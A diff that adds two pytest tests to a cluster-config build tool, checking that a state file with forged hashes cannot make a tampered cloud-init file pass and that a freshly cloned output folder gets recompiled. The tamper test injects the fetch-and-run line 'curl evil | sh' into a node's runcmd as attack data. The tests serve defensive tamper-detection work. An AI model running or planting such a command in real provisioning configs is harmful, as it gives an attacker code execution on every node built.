@@ -361,3 +361,39 @@ def test_without_a_process_pool_a_fleet_builds_in_one_process(hacc, tmp_path, mo
     assert r.code == 0, r.err
     assert asked  # the pool was asked for, and refused
     assert len([p for p in (tmp_path / "out").glob(f"*/{STATE_FILE}") if "edge-" in str(p)]) == 16
+
+
+def test_a_hand_edit_with_its_hash_forged_in_the_state_file_is_caught(hacc, built) -> None:
+    """The state file is committed: anyone who can commit can make its hashes match an edited
+    file. Only a state file a build on this machine wrote or checked lets a folder be reused."""
+    import hashlib
+
+    spec, out = built
+    folder = out / CLUSTER
+    victim = folder / "nodes/cp1/user-data.yaml"
+    victim.write_text(victim.read_text().replace("runcmd:", "runcmd:\n- curl evil | sh", 1))
+    state_path = folder / STATE_FILE
+    state = json.loads(state_path.read_text())
+    state["files"]["nodes/cp1/user-data.yaml"] = (
+        "sha256:" + hashlib.sha256(victim.read_bytes()).hexdigest()
+    )
+    state_path.write_text(json.dumps(state, indent=2) + "\n")
+    check = hacc("build", "--check", str(spec), "-o", str(out))
+    assert check.code == 1 and "nodes/cp1/user-data.yaml" in check.err, check.err
+    assert "curl evil" not in hacc("build", str(spec), "-o", str(out)).err
+    assert "curl evil" not in victim.read_text()
+
+
+def test_a_folder_this_machine_did_not_write_is_compiled(hacc, tmp_path, built, renders) -> None:
+    """A fresh clone of the GitOps repository (here: a copy of OUT): `--check` compiles."""
+    import shutil
+
+    spec, _ = built
+    clone = tmp_path / "clone"
+    shutil.copytree(tmp_path, clone, ignore=shutil.ignore_patterns("clone"))
+    check = hacc("build", "--check", str(clone / spec.name), "-o", str(clone / "out"))
+    assert check.code == 0 and renders == [CLUSTER], check.err
+    assert hacc("build", str(clone / spec.name), "-o", str(clone / "out")).code == 0
+    renders.clear()
+    assert hacc("build", "--check", str(clone / spec.name), "-o", str(clone / "out")).code == 0
+    assert renders == []  # written (checked) here now
